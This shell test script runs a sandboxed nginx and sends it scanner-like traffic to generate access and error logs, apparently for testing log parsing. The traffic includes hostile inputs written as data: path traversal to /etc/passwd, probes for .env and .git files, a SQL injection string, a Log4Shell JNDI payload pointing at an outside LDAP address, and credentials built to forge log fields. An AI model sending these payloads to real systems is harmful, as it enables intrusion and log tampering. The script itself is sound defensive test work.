#!/bin/sh
# nginx: combined and JSON access logs, the error log; scanners, limits, wrong passwords, a dead upstream.
. "$(dirname "$0")/lib.sh"
need nginx nginx-light
need curl curl
need nc netcat-openbsd
need openssl openssl
sandbox

mkdir -p "$WORK/www" "$WORK/tmp"
chmod 755 "$WORK"
echo hello > "$WORK/www/index.html"
echo "admin:$(openssl passwd -apr1 right)" > "$WORK/htpasswd"
openssl req -x509 -newkey rsa:2048 -nodes -keyout "$WORK/k.pem" -out "$WORK/c.pem" -days 1 -subj /CN=shop.example 2>/dev/null
cat > "$WORK/nginx.conf" <<END
user root;
pid $WORK/nginx.pid;
error_log $OUT/error.log info;
events { worker_connections 64; }
http {
  log_format json escape=json '{"time_iso8601":"\$time_iso8601","remote_addr":"\$remote_addr","remote_user":"\$remote_user",'
    '"request_method":"\$request_method","request_uri":"\$request_uri","status":\$status,"body_bytes_sent":\$body_bytes_sent,'
    '"request_time":\$request_time,"http_referer":"\$http_referer","http_user_agent":"\$http_user_agent"}';
  access_log $OUT/access.log combined;
  access_log $OUT/access-json.log json;
  client_body_temp_path $WORK/tmp; proxy_temp_path $WORK/tmp; fastcgi_temp_path $WORK/tmp;
  uwsgi_temp_path $WORK/tmp; scgi_temp_path $WORK/tmp;
  limit_req_zone \$binary_remote_addr zone=login:1m rate=1r/s;
  limit_conn_zone \$binary_remote_addr zone=one:1m;
  server {
    listen $SERVER:80; server_name shop.example; root $WORK/www; client_max_body_size 1k;
    location /admin { auth_basic x; auth_basic_user_file $WORK/htpasswd; }
    location /login { limit_req zone=login; limit_req_status 429; try_files /index.html =404; }
    location /api { proxy_pass http://127.0.0.1:9; }
    location /hidden { deny all; }
    location /folder/ { }
  }
  server { listen $SERVER:443 ssl; ssl_certificate $WORK/c.pem; ssl_certificate_key $WORK/k.pem; ssl_protocols TLSv1.3; return 204; }
}
END
mkdir -p "$WORK/www/folder"
nginx -c "$WORK/nginx.conf"
wait_for "answer of nginx" nc -z $SERVER 80
get() { # ADDRESS ARGUMENT...
    address=$1
    shift
    curl -s -o /dev/null --max-time 5 --path-as-is --interface "$address" "$@" || true
}
U=http://$SERVER
get $GUEST $U/
get $GUEST -u admin:right $U/admin/
get $STRANGER -u admin:wrong $U/admin/
get $STRANGER -u root:wrong $U/admin/
get $STRANGER -u 'a", client: 198.51.100.1, server: x":wrong' $U/admin/
get $STRANGER -u 'a [21/Nov/2026:01:00:00 +0000] b:wrong' $U/admin/
get $STRANGER -e 'x": password mismatch, client: 198.51.100.1, server: y' -u admin:wrong $U/admin/
get $STRANGER $U/admin/
for path in /.env /.git/config /wp-login.php '/a/../../etc/passwd' '/%2e%2e%2f%2e%2e%2fetc/passwd' '/?id=1%20union%20select%201' '/x"y' /hidden /folder/ /api; do
    get $STRANGER "$U$path"
done
get $STRANGER -A 'sqlmap/1.7' $U/
# shellcheck disable=SC2016 # no expansion is meant
get $STRANGER -A '${jndi:ldap://203.0.113.9/a}' -e 'http://x/"y"' $U/
for _ in 1 2 3 4; do get $STRANGER -X POST $U/login; done
head -c 5000 /dev/zero > "$WORK/body"
get $STRANGER --data-binary "@$WORK/body" $U/
get $STRANGER -X PROPFIND $U/
get $STRANGER -X TRACE $U/
printf '\026\003\001\000\356garbage' | nc -q1 -s $STRANGER $SERVER 80 >/dev/null || true
printf 'GET /a b, client: 198.51.100.1, server: x HTTP/1.1\r\nHost: x\r\n\r\n' | nc -q1 -s $STRANGER $SERVER 80 >/dev/null || true
printf 'GET / HTTP/1.0\r\n\r\n' | nc -q1 -s $STRANGER $SERVER 443 >/dev/null || true
printf '\026\003\001garbage garbage garbage' | nc -q1 -s $STRANGER $SERVER 443 >/dev/null || true
openssl s_client -tls1_2 -connect $SERVER:443 </dev/null >/dev/null 2>&1 || true
nginx -c "$WORK/nginx.conf" 2>/dev/null || true # the port is taken
nginx -c "$WORK/nginx.conf" -s quit
settle
report "$OUT/access.log" "$OUT/access-json.log" "$OUT/error.log"
